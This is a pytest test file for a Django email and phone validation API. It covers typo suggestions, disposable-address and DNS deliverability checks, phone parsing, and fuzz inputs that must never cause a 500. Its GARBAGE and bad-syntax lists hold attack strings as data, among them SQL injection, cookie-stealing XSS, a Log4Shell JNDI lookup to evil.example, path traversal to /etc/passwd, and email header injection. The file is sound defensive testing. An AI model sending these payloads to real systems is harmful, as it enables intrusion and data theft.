"""The as-you-type check over HTTP: GET /api/v1/validate and a form's own
/api/v1/forms/{slug}/validate, with real DNS on loopback behind them. Whatever a visitor (or a
script) types, the answer is 200 or a 4xx, never a 500."""

import itertools
import time
import uuid

import pytest
from django.test import Client

_unique = itertools.count()


def fresh(behaviour: str) -> str:
    return f"{behaviour}.v{next(_unique)}-{uuid.uuid4().hex[:8]}.example.com"


@pytest.fixture
def client() -> Client:
    return Client()


def validate(client: Client, path: str = "/api/v1/validate", **params):
    response = client.get(path, params)
    assert response.status_code == 200, response.content[:500]
    return response.json()


# (address, what the answer says about it)
EMAIL_ANSWERS = [
    (
        "Jane.Doe@gmial.com",
        {"valid": True, "suggestion": "Jane.Doe@gmail.com", "free_mail": False},
    ),
    ("jane@hotmail.co", {"valid": True, "suggestion": "jane@hotmail.com"}),
    ("jane@outlok.com", {"valid": True, "suggestion": "jane@outlook.com"}),
    ("jane@aon.com", {"valid": True, "suggestion": "", "deliverability": "deliverable"}),
    (
        "kim@mailinator.com",
        {"valid": True, "disposable": True, "suggestion": "", "deliverability": "deliverable"},
    ),
    ("kim@inbox.mailinator.com", {"valid": True, "disposable": True}),
    ("info@acme.com", {"valid": True, "role_account": True, "free_mail": False}),
    ("no-reply@acme.com", {"valid": True, "role_account": True}),
    ("jane@gmail.com", {"valid": True, "free_mail": True, "role_account": False}),
    ("Jane@Example.COM", {"valid": True, "normalized": "Jane@example.com"}),
    ("jane@nxdomain.acme-example.com", {"valid": True, "deliverability": "undeliverable"}),
    ("jane@nullmx.acme-example.com", {"valid": True, "deliverability": "undeliverable"}),
    ("jane@servfail.acme-example.com", {"valid": True, "deliverability": "unknown"}),
    ("jane@bücher.de", {"valid": True, "normalized": "jane@bücher.de"}),
]


@pytest.mark.parametrize(("email", "expected"), EMAIL_ANSWERS)
def test_email_answers(client, email, expected):
    answer = validate(client, email=email)
    assert answer["phone"] is None
    assert {k: answer["email"][k] for k in expected} == expected


@pytest.mark.parametrize(
    "email",
    [
        "jane",
        "jane@",
        "@acme.com",
        "jane@@acme.com",
        "jane@acme",
        "jane doe@acme.com",
        "jane@acme..com",
        "jane@-acme.com",
        "jane.@acme.com",
        "jane@acme.com.",
        "jane@localhost",
        "jane@shop.invalid",
        "jane@[127.0.0.1]",
        "<script>alert(1)</script>@acme.com",
        "' OR 1=1 --@acme.com",
        "jane@" + "a" * 64 + ".com",
    ],
)
def test_bad_syntax_is_valid_false_with_a_message(client, email):
    answer = validate(client, email=email)
    assert answer["email"]["valid"] is False
    assert answer["email"]["message"]
    assert answer["email"]["normalized"] == ""


@pytest.mark.parametrize("email", ["jane@acme.com ", " jane@acme.com", "\tjane@acme.com\n"])
def test_surrounding_spaces_are_not_an_error_as_typed(client, email):
    assert validate(client, email=email)["email"]["valid"] is True


def test_undeliverable_answer_comes_from_the_dns_server(client, loopback_dns):
    domain = fresh("nxdomain")
    answer = validate(client, email=f"jane@{domain}")
    assert answer["email"]["deliverability"] == "undeliverable"
    assert f"{domain} MX" in loopback_dns.questions


def test_a_slow_dns_server_does_not_hold_up_the_visitor(client):
    started = time.monotonic()
    answer = validate(client, email=f"jane@{fresh('slow')}")
    assert time.monotonic() - started < 2
    assert answer["email"] == {**answer["email"], "valid": True, "deliverability": "unknown"}


# (number, region, what the answer says about it)
PHONE_ANSWERS = [
    (
        "(415) 555-2671",
        "US",
        {
            "valid": True,
            "e164": "+14155552671",
            "line_type": "landline_or_mobile",
            "region": "US",
            "time_zones": ["America/Los_Angeles"],
            "carrier": "",
            "country_name": "United States",
            "location": "San Francisco, CA",
        },
    ),
    ("212-555-1234", "us", {"valid": True, "e164": "+12125551234"}),
    (
        "07400 123456",
        "GB",
        {"valid": True, "e164": "+447400123456", "line_type": "mobile", "carrier": "Three"},
    ),
    ("+44 7400 123456", "US", {"valid": True, "region": "GB"}),  # + wins over the region
    ("1-800-555-1234", "US", {"valid": True, "line_type": "toll_free"}),
    ("+44 56 1234 5678", "", {"valid": True, "line_type": "voip"}),
    ("06 12 34 56 78", "FR", {"valid": True, "e164": "+33612345678", "carrier": "SFR"}),
]


@pytest.mark.parametrize(("phone", "region", "expected"), PHONE_ANSWERS)
def test_phone_answers(client, phone, region, expected):
    answer = validate(client, phone=phone, region=region)
    assert answer["email"] is None
    assert {k: answer["phone"][k] for k in expected} == expected
    assert answer["phone"]["message"] == ""


@pytest.mark.parametrize(
    ("phone", "region"),
    [
        ("555", "US"),
        ("123456789012345678", "US"),
        ("+1 000 000 0000", "US"),
        ("07700 900123", "GB"),  # Ofcom's range for drama
        ("hello", "US"),
        ("+", "US"),
        ("4155552671", "ZZ"),
        ("4155552671", ""),
    ],
)
def test_bad_phones_are_valid_false_with_a_message(client, phone, region):
    answer = validate(client, phone=phone, region=region)
    assert answer["phone"]["valid"] is False
    assert answer["phone"]["message"]


def test_email_and_phone_together(client):
    answer = validate(client, email="jane@gmial.com", phone="(212) 555-1234")
    assert answer["email"]["suggestion"] == "jane@gmail.com"
    assert answer["phone"]["e164"] == "+12125551234"


def test_nothing_asked_nothing_answered(client):
    assert validate(client) == {"email": None, "phone": None}


# --- A form's own check reads national numbers in the form's default region.


def test_form_validate_uses_the_forms_region(client, quote_form):
    path = f"/api/v1/forms/{quote_form.slug}/validate"
    answer = validate(client, path, email="jane@yaho.com", phone="(415) 555-2671")
    assert answer["email"]["suggestion"] == "jane@yahoo.com"
    assert answer["phone"]["e164"] == "+14155552671"
    assert answer["phone"]["time_zones"] == ["America/Los_Angeles"]
    bad = validate(client, path, email="jane@@acme.com", phone="555")
    assert bad["email"]["valid"] is False
    assert bad["phone"]["valid"] is False


def test_form_validate_ignores_a_region_parameter(client, quote_form):
    path = f"/api/v1/forms/{quote_form.slug}/validate"
    answer = validate(client, path, phone="07400 123456", region="GB")
    assert answer["phone"]["valid"] is False  # read as a US number, as the form says


@pytest.mark.django_db
def test_form_validate_for_an_unknown_form_is_404(client):
    assert (
        client.get("/api/v1/forms/no-such-form/validate", {"email": "a@b.com"}).status_code == 404
    )


def test_form_validate_for_an_inactive_form_is_404(client, quote_form):
    quote_form.is_active = False
    quote_form.save(update_fields=["is_active"])
    path = f"/api/v1/forms/{quote_form.slug}/validate"
    assert client.get(path, {"email": "a@b.com"}).status_code == 404


# --- Garbage in: 200 or 4xx, never 500.

GARBAGE = [
    "x" * 10_000,
    "a@" + "b" * 10_000 + ".com",
    "@" * 10_000,
    "+" + "9" * 10_000,
    "\x00",
    "jane\x00@acme.com",
    "\x01\x02\x1f\x7f",
    "jane@acme.com\r\nBcc: victim@example.com",
    "\t\n\r\v\f",
    "' OR '1'='1",
    "1; DROP TABLE core_lead; --",
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "%00%0d%0a",
    "\u202ejane@acme.com",
    "\u200b@\u200b.com",
    "jane@🙂.com",
    "🙂" * 300,
    "jane@xn--.com",
    "jane@xn--zz-zzzzzz.com",
    "jane@" + "a." * 120 + "com",
    "\uff4a\uff41\uff4e\uff45\uff20\uff41\uff43\uff4d\uff45\uff0e\uff43\uff4f\uff4d",  # full-width
    "+1 (415) 555-2671 ext. 99999999999999999999",
    "++++++++",
    "+0",
    "+999999999999999",
    "٤١٥٥٥٥٢٦٧١",
]


@pytest.mark.parametrize("value", GARBAGE, ids=range(len(GARBAGE)))
@pytest.mark.parametrize("field", ["email", "phone", "region"])
def test_garbage_never_500(client, field, value):
    response = client.get("/api/v1/validate", {field: value, "phone": "4155552671"})
    assert response.status_code < 500
    if response.status_code == 200:
        assert set(response.json()) == {"email", "phone"}


@pytest.mark.parametrize("value", GARBAGE[:12], ids=range(12))
def test_garbage_never_500_on_a_form(client, quote_form, value):
    path = f"/api/v1/forms/{quote_form.slug}/validate"
    response = client.get(path, {"email": value, "phone": value})
    assert response.status_code < 500


@pytest.mark.parametrize(
    "query",
    [
        "email=%00",
        "email=%ff%fe",
        "email=%ed%a0%80",  # a lone surrogate, as UTF-8 bytes
        "phone=%c0%af",
        "email=a&email=b&email=c",
        "region=%00%00",
        "email=" + "%41" * 20_000,
        "email[]=a@b.com",
        "email=a%40b.com&phone=%2B14155552671&region=us",
    ],
)
def test_raw_query_strings_never_500(client, query):
    response = client.get(f"/api/v1/validate?{query}")
    assert response.status_code < 500
